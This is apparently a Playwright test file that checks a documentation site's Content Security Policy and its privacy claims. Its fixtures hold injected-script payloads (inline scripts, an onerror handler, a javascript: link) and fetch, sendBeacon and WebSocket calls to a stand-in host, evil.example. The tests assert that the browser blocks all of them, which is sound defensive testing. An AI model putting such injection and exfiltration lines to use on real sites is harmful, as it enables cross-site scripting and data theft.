"""What a page may do: run the site's own scripts, ask its own host, store the choice of colors. Nothing else.

tests/site/test_finish_csp.py looks at the policy, this file at what the browser makes of it. That it forbids
nothing that the site needs is shown by all other browser tests, whose pages write no error to the console.
"""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import marked
from tests.browser.search_box import search
from tests.built_site import Site

SCALING = "transformers/why-divide-by-sqrt-dk/"
FOREIGN = "https://evil.example/"
INJECTED = f"""
  <script>globalThis.ran = "inline"</script>
  <script src="{FOREIGN}script.js"></script>
  <script src="data:text/javascript,globalThis.ran='data'"></script>
  <script type="module">globalThis.ran = "module"</script>
  <img src="assets/none.svg" alt="" onerror="globalThis.ran = 'attribute'">
  <img src="{FOREIGN}pixel.png" alt="">
  <iframe src="{FOREIGN}"></iframe>
  <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
  <link rel="stylesheet" href="{FOREIGN}style.css">
  <object data="{FOREIGN}object"></object>
  <form action="{FOREIGN}"><button id="send">Send</button></form>
  <a id="address" href="javascript:globalThis.ran='address'">Click</a>
"""
FROM_SCRIPT = [
    "fetch('https://evil.example/')",
    "navigator.sendBeacon('https://evil.example/', 'x') || Promise.reject()",
    "new Promise((done, fail) => { new WebSocket('wss://evil.example/').onerror = fail })",
    "import('https://evil.example/module.js')",
    "new Promise((done, fail) => { new Worker('data:text/javascript,1').onerror = fail })",
]
STORED = """async () => ({
  local: Object.keys(localStorage),
  session: Object.keys(sessionStorage),
  databases: (await indexedDB.databases()).map(({ name }) => name),
  caches: await caches.keys(),
  workers: (await navigator.serviceWorker.getRegistrations()).length,
  cookie: document.cookie,
})"""


@pytest.fixture
def victim(context: BrowserContext, site: Site) -> Page:
    """A page into whose HTML somebody got what they should not."""
    page = context.new_page()

    def inject(route) -> None:
        text = site.file(SCALING).read_text("utf-8")
        assert "</article>" in text
        route.fulfill(body=text.replace("</article>", f"{INJECTED}</article>"), content_type="text/html")

    page.route(f"**/{SCALING}", inject)
    return page


def test_what_is_injected_into_a_page_does_not_run(victim: Page, site: Site):
    arrived: list[str] = []
    victim.on("requestfinished", lambda request: arrived.append(urlsplit(request.url).netloc))
    failures: dict[str, str] = {}
    victim.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
    victim.goto(SCALING)
    victim.wait_for_load_state("networkidle")
    victim.locator("#address").dispatch_event("click")
    victim.locator("#send").dispatch_event("click")
    victim.wait_for_timeout(300)
    assert victim.evaluate("globalThis.ran") is None
    assert set(arrived) == {site.host}
    assert victim.url == site.address + SCALING
    # refused by the policy, not merely unknown to the tests' browser
    assert {failures[f"{FOREIGN}{name}"] for name in ("script.js", "pixel.png", "style.css")} == {"csp"}


def test_instant_navigation_runs_no_injected_script(victim: Page):
    """It puts a page into the one that is there, and evaluates its scripts anew."""
    with marked(victim):
        victim.goto("transformers/")
    victim.locator("article").get_by_role("link", name="Why divide by √d_k?").click()
    expect(victim.locator("main h1")).to_contain_text("Why divide by √d_k?")
    expect(victim.locator("#send")).to_be_attached()
    victim.wait_for_timeout(300)
    assert victim.evaluate("globalThis.sameDocument")
    assert victim.evaluate("globalThis.ran") is None


def test_scripts_of_the_site_reach_no_other_host(context: BrowserContext):
    page = context.new_page()
    page.goto("")
    for attempt in FROM_SCRIPT:
        blocked = f"""() => new Promise((done) => {{
          document.addEventListener("securitypolicyviolation", () => done(true), {{ once: true }});
          {attempt}.then(() => done(false), () => setTimeout(() => done(false), 1000));
        }})"""
        assert page.evaluate(blocked), attempt


def test_modules_and_workers_of_the_site_run(page: Page):
    """The page fixture adds: the policy refuses nothing."""
    page.goto(SCALING)
    page.evaluate("import(new URL('../../assets/javascripts/a11y.js', location)).then(() => true)")
    worker = page.evaluate("JSON.parse(document.querySelector('#__config').textContent).search")
    assert page.evaluate(
        """(path) => new Promise((done) => {
          const worker = new Worker(new URL(path, location));
          worker.onerror = () => done(false);
          setTimeout(() => done(true), 300);
        })""",
        worker,
    )


def test_code_is_copied_and_a_search_shared(page: Page, site: Site):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.address)
    page.goto(SCALING)
    block = page.locator(".highlight:not(:has(.filename))").first
    block.scroll_into_view_if_needed()
    block.locator("[data-md-type=copy]").click()
    assert "import" in page.evaluate("navigator.clipboard.readText()")
    search(page, "rope")
    page.locator("[data-md-component=search-share]").click()


def test_only_the_choice_of_colors_is_stored(page: Page, site: Site):
    """docs/privacy.md says so. What the reader has asked to be stored (grades) comes on top."""
    palette = f"{site.prefix}.__palette"
    page.goto("")
    page.locator("header label[for^=__palette]:visible").click()
    for name in ("Why divide by √d_k?", "Are there other ways"):
        page.locator("main").get_by_role("link", name=name).first.click()
        expect(page.locator("main h1")).to_contain_text(name)
    search(page, "softmax")
    page.goto("notebooks/attention-step-by-step/")
    page.goto("study/practice/")
    page.get_by_role("button", name="Show the answer").click()
    assert page.evaluate(STORED) == {
        "local": [palette],
        "session": [],
        "databases": [],
        "caches": [],
        "workers": 0,
        "cookie": "",
    }
    assert page.context.cookies() == []
    page.goto("privacy/")
    assert palette.removeprefix(site.prefix) in page.locator("article table").inner_text()


def test_progress_is_stored_under_the_name_that_the_page_on_privacy_has(page: Page, site: Site):
    page.goto("study/practice/")
    before = page.evaluate(STORED)
    page.get_by_role("button", name="Show the answer").click()
    page.get_by_role("button", name="Good").click()
    expect(page.locator(".practice__status")).to_contain_text("again in")
    after = page.evaluate(STORED)
    [progress] = set(after["local"]) - set(before["local"])
    assert after == before | {"local": after["local"]}
    page.goto("privacy/")
    table = page.locator("article table").inner_text()
    assert f"/….{progress.removeprefix(f'{site.prefix}.')}\t" in table
    assert f"/….{progress.removeprefix(f'{site.prefix}.')}.backup." in table
